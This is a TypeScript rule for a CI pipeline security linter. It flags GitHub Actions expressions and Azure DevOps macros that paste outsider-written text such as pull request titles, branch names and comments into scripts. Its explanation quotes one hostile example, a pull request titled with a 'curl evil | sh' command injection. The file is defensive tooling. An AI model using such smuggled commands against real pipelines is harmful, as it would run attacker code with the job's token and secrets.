import { shown } from '../../model/npm/report.ts';
import { type CodeSink, codeSinksOf } from '../../model/pipeline/sinks.ts';
import { type ExpressionSpan, expressionsIn } from '../../model/pipeline/spans.ts';
import { type Source, sourcesOf } from '../../model/pipeline/taint.ts';
import {
  eventsOf,
  eventsReaching,
  forkEvents,
  guardOf,
  privilegedEvents,
  stepsOf,
} from '../../model/pipeline/trust.ts';
import type { Pipeline, Step } from '../../model/pipeline/types.ts';
import { rangeIn } from '../../model/tree/index.ts';
import type { Confidence, Draft, Severity } from '../../model/types.ts';
import { defineRule } from '../rule.ts';
import { injectionFixes } from './template-injection/fix.ts';

export default defineRule({
  meta: {
    id: 'template-injection',
    title: 'Foreign text expanded into code',
    category: 'pipeline',
    severity: 'high',
    confidence: 'high',
    why: 'GitHub pastes the value of ${{ … }} into the script before any shell sees it, so quotes around it protect nothing.\nA pull request titled "; curl evil | sh; " then runs with the job’s token and secrets.',
    fix: 'Hand the value over in env: and use the shell’s own variable in quotes: "$TITLE".',
    sources: [
      'https://docs.github.com/en/actions/concepts/security/script-injections',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
  },
  reads: 'pipeline',
  *check(pipeline, context) {
    if (pipeline.dialect === 'azure') yield* azureMacros(pipeline);
    for (const step of stepsOf(pipeline)) {
      for (const sink of codeSinksOf(step)) {
        for (const span of expressionsIn(sink.node)) {
          const judged = judgeSpan(pipeline, step, sink, span);
          if (!judged) continue;
          yield {
            path: pipeline.document.path,
            range: span.range,
            ...judged,
            identity: span.text.trim(),
            fixes: () => injectionFixes(pipeline, step, sink, span, context),
          };
        }
      }
    }
  },
});

/** Names of Azure's predefined variables whose text an outsider writes; as macros they are pasted into the script. */
const macros =
  /\$\((Build\.(?:SourceBranch|SourceBranchName|SourceVersionMessage|SourceVersionAuthor)|System\.PullRequest\.SourceBranch)\)/gi;

/** https://learn.microsoft.com/azure/devops/pipelines/process/variables#understand-variable-syntax */
function* azureMacros(pipeline: Pipeline): Generator<Draft> {
  for (const { node } of pipeline.scripts) {
    for (const match of node.text.matchAll(macros)) {
      const variable = (match[1] as string).replaceAll('.', '_').toUpperCase();
      yield {
        path: pipeline.document.path,
        range: rangeIn(node, match.index, match.index + match[0].length),
        message: `${match[0]} is pasted into the script: whoever opens a pull request can run code in this job; read $${variable} instead`,
        confidence: 'medium',
        identity: match[0],
      };
    }
  }
}

interface Judged {
  severity: Severity;
  confidence: Confidence;
  message: string;
}

function judgeSpan(pipeline: Pipeline, step: Step, sink: CodeSink, span: ExpressionSpan): Judged | undefined {
  if (!span.expression) return undefined;
  const scope = { pipeline, step, ...(step.job ? { job: step.job } : {}) };
  let worst: Judged | undefined;
  for (const source of sourcesOf(span.expression, scope)) {
    const judged = judgeSource(pipeline, step, source, sink);
    if (judged && (!worst || order.indexOf(judged.severity) < order.indexOf(worst.severity))) worst = judged;
  }
  return worst;
}

const order: Severity[] = ['critical', 'high', 'medium', 'low', 'info'];

function judgeSource(pipeline: Pipeline, step: Step, source: Source, sink: CodeSink): Judged | undefined {
  const name = shown(source.name);
  const { workflow } = pipeline;
  const events = eventsReaching(workflow, step.job, step);
  const called = !workflow || events.has('workflow_call');
  const filled = source.events ? source.events.filter((event) => events.has(event)) : [...events];
  const confidence: Confidence = source.indirect || (called && filled.length === 0) ? 'medium' : 'high';
  if (source.trust === 'insider') {
    if (source.events && filled.length === 0 && !called) return undefined;
    const who = /^(?:github\.event\.)?inputs\./.test(source.name)
      ? 'whoever starts or calls this'
      : 'whoever may write here';
    return {
      severity: 'low',
      confidence: 'medium',
      message: `${name} is expanded into ${sink.what}: ${who} can run code in this job`,
    };
  }
  if (source.trust === 'unknown') {
    const outside = called || [...events].some((event) => privilegedEvents.has(event) || forkEvents.has(event));
    if (!outside) return undefined;
    return {
      severity: 'low',
      confidence: 'low',
      message: `${name} is expanded into ${sink.what}: what it holds is only known at run time`,
    };
  }
  if (filled.length === 0 && !called) {
    if (eventsOf(workflow).size === 0) return undefined;
    const message = `${name} is expanded into ${sink.what}; it is empty under today's triggers, and code under others`;
    return { severity: 'low', confidence: 'low', message };
  }
  const message = `${name} is expanded into ${sink.what}: ${whoWrites(source.name)} can run code in this job`;
  const guard = guardOf(step.job, step);
  if (guard === 'same-repository' && filled.every((event) => /^pull_request|^workflow_run$/.test(event))) {
    return { severity: 'low', confidence: 'medium', message };
  }
  const privileged = filled.some((event) => privilegedEvents.has(event));
  if (guard === 'trusted-people') return { severity: 'medium', confidence: 'medium', message };
  return { severity: privileged ? 'critical' : 'high', confidence, message };
}

function whoWrites(name: string): string {
  if (/comment/.test(name)) return 'whoever writes a comment';
  if (/review/.test(name)) return 'whoever writes a review';
  if (/discussion/.test(name)) return 'whoever opens a discussion';
  if (/issue/.test(name)) return 'whoever opens an issue';
  if (/pull_request|head_ref|workflow_run/.test(name)) return 'whoever opens a pull request';
  if (/commit/.test(name)) return 'whoever writes a commit that lands here';
  return 'an outsider';
}
